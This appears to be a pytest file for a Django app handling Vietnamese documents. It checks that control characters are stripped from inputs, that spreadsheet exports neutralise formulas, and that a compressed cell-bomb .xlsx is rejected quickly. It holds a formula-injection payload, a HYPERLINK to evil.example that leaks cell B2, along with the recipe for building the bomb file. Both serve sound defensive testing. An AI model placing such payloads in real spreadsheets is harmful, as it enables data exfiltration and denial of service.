"""Control characters and formulas: removed at input (every form field, every import cell),
harmless at output (an export or a document never breaks, a formula is never evaluated)."""

from __future__ import annotations

import datetime
import io

import pytest
from django.http import HttpResponse
from django.test import RequestFactory
from openpyxl import load_workbook

from dancu.core.documents import DocumentSpec, Section, Table, build_document, docx_text
from dancu.core.excel import Column, Text, export_rows
from dancu.core.middleware import CleanInputMiddleware
from dancu.core.text import clean_text

BAD = "Đường\x08 thôn\x01 3\x00 hỏng\x7f\x9b"
INJECTION = '=HYPERLINK("http://evil.example/?x="&B2,"Bấm xem")'


def test_clean_text_keeps_vietnamese_tabs_and_lines():
    assert clean_text(BAD) == "Đường thôn 3 hỏng"
    assert clean_text("a\tb\nc\r\nd") == "a\tb\nc\r\nd"
    assert clean_text("\ud800x") == "x"


def test_every_form_field_arrives_clean():
    seen = {}

    def view(request):
        seen.update(post=request.POST.dict(), get=request.GET.dict())
        return HttpResponse("ok")

    request = RequestFactory().post("/x/?q=ph\x08an", {"content": BAD, "name\x01": "Lê\x02"})
    CleanInputMiddleware(view)(request)
    assert seen["post"] == {"content": "Đường thôn 3 hỏng", "name": "Lê"}
    assert seen["get"] == {"q": "phan"}


def test_an_import_cell_is_cleaned():
    assert Text()(BAD) == "Đường thôn 3 hỏng"


def test_export_with_control_characters_and_formulas_opens_and_keeps_text():
    data = export_rows(
        [Column("subject", "Nội dung", parser=Text()), "Ghi chú"],
        [{"subject": INJECTION, "Ghi chú": BAD}, {"subject": "+84912345678", "Ghi chú": "@SUM(A1:A2)"}],
        "Sổ đơn",
    )
    sheet = load_workbook(io.BytesIO(data)).active
    first, second = sheet[2], sheet[3]
    assert first[0].value == INJECTION and first[0].data_type == "s" and first[0].quotePrefix
    assert first[1].value == "Đường thôn 3 hỏng"
    assert second[0].data_type == "s" and second[0].quotePrefix
    assert second[1].data_type == "s" and second[1].quotePrefix
    # No cell of the file is a formula.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_a_document_with_control_characters_builds():
    spec = DocumentSpec(
        issuer_parent="HĐND TỈNH HÀ TĨNH",
        issuer="VĂN PHÒNG\x0b",
        symbol="BC-VP",
        place="Hà Tĩnh",
        date=datetime.date(2026, 12, 1),
        doc_type="BÁO CÁO",
        summary="Kết quả\x08",
        body=[BAD, Section("I. KẾT QUẢ", [Table([["TT", "Nội dung"], ["1", BAD]])])],
    )
    text = docx_text(build_document(spec))
    assert "Đường thôn 3 hỏng" in text and "\x08" not in text


@pytest.mark.parametrize("value", [BAD, INJECTION, "\x00"])
def test_export_never_raises(value):
    assert export_rows(["A"], [[value]], "x")


def test_a_small_file_with_millions_of_cells_is_refused_fast():
    """Audit finding 18: a 226 KB .xlsx with one 2-million-cell row held a request for 35 s."""
    import time
    import zipfile

    from openpyxl import Workbook

    from dancu.core.excel import SpreadsheetRejected, read_rows

    book = Workbook()
    book.active.append(["Họ và tên"])
    plain = io.BytesIO()
    book.save(plain)
    # Rewrite the sheet with a row of 600,000 cells (compresses to a small file).
    source = zipfile.ZipFile(io.BytesIO(plain.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                cells = b"".join(b'<c t="inlineStr"><is><t>x</t></is></c>' for _ in range(600_000))
                data = data.replace(b"</sheetData>", b'<row r="2">' + cells + b"</row></sheetData>")
            target.writestr(item, data)
    assert len(out.getvalue()) < 2_000_000
    started = time.monotonic()
    with pytest.raises(SpreadsheetRejected, match="500.000"):
        read_rows(out.getvalue(), [Column("name", "Họ và tên", required=True)])
    assert time.monotonic() - started < 5
